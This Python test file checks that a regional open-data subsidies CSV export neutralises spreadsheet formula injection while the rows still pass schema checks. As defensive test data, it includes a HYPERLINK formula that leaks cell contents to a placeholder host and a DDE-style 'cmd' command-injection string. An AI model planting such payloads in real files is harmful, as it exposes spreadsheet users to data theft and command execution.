"""The open-data file the region publishes is opened in spreadsheets by anyone: a company named
`=HYPERLINK("http://…")` or a deliberation numbered `=1+2` must arrive there as text, never as a
live formula (OWASP « CSV injection »), and the file must still pass the SCDL schema's checks."""
from __future__ import annotations

import copy
import csv
import io
import re
from pathlib import Path

import pytest
from api_support import *  # noqa: F401,F403  (fixtures: app, client, sign_in)
from audit_scenarios import play_document, scenario

from rules.identifiers import luhn_valid
from services.csv_export import FORMULA_TRIGGERS, neutralise_cell, write_csv
from services.opendata import COLUMNS, check_row, export_subsidies

ROOT = Path(__file__).resolve().parents[1]
REGION_SIRET = next(f"732829320{n:05d}" for n in range(10, 99999) if luhn_valid(f"732829320{n:05d}"))
LINK = '=HYPERLINK("http://exemple.invalid/?leak="&A1;"Cliquez ici")'


def _golden_1_as(uow_factory, *, company: str, deliberation: str) -> int:
    doc = copy.deepcopy(scenario("golden-1-sme-full-life"))
    for step in doc["steps"]:
        if step["do"] == "submit_candidacy":
            step["with"]["company"]["name"] = company
        if step["do"] == "record_vote":
            step["with"]["deliberation"] = deliberation
    return play_document(uow_factory, doc)


@pytest.mark.parametrize("value", ["=1+2", "+33 5 61 00 00 00", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A9)",
                                   "\t=1+2", "\r=1+2"])
def test_a_cell_a_spreadsheet_would_read_as_a_formula_is_prefixed_with_a_quote(value):
    assert neutralise_cell(value) == "'" + value


def test_ordinary_cells_amounts_dates_and_identifiers_are_left_as_they_are():
    for value in ("Atelier Garonne SAS", "17500.00", "2021-04-09", "2021-04-22_2021-11-19", REGION_SIRET, "0.59",
                  "CP/2021-04/17", "", "a=b", "'déjà cité"):
        assert neutralise_cell(value) == value
    assert neutralise_cell(None) == ""


def test_a_formula_company_name_and_deliberation_go_out_as_text_and_the_file_keeps_the_schema(uow_factory):
    _golden_1_as(uow_factory, company=LINK, deliberation="=1+2")
    with uow_factory() as uow:
        export = export_subsidies(uow=uow, programme_id="occitanie-prif", attributor_siret=REGION_SIRET)
    (row,) = export.rows
    assert (row["nomBeneficiaire"], row["referenceDecision"]) == (LINK, "=1+2")   # the JSON form keeps them
    text = export.csv()
    (published,) = list(csv.DictReader(io.StringIO(text)))
    assert published["nomBeneficiaire"] == "'" + LINK
    assert published["referenceDecision"] == "'=1+2"
    # No cell of the file begins with a formula trigger, and every row still passes the schema's checks.
    for cells in csv.reader(io.StringIO(text)):
        assert not any(cell.startswith(FORMULA_TRIGGERS) for cell in cells)
    check_row(published)
    # Only the free-text cells changed: amounts, dates and identifiers are as the JSON gives them.
    assert {k for k in COLUMNS if published[k] != row[k]} == {"nomBeneficiaire", "referenceDecision"}


def test_the_api_download_is_neutralised_too(uow_factory, sign_in):
    _golden_1_as(uow_factory, company="@Atelier Garonne", deliberation="CP/2021-04/17")
    r = sign_in("agent.occitanie").get(f"/opendata/subventions?programme=occitanie-prif&attributor_siret={REGION_SIRET}")
    assert r.status_code == 200
    (published,) = list(csv.DictReader(io.StringIO(r.text)))
    assert published["nomBeneficiaire"] == "'@Atelier Garonne"


def test_every_csv_file_the_product_writes_goes_through_the_one_writer():
    writers = re.compile(r"csv\.(writer|DictWriter)\(")
    offenders = [str(p.relative_to(ROOT)) for folder in ("services", "api", "web", "cli", "workflows", "bench")
                 for p in (ROOT / folder).rglob("*.py")
                 if writers.search(p.read_text("utf-8")) and p != ROOT / "services" / "csv_export.py"]
    assert offenders == []
    assert write_csv(["a"], [{"a": "=1"}]) == "a\r\n'=1\r\n"
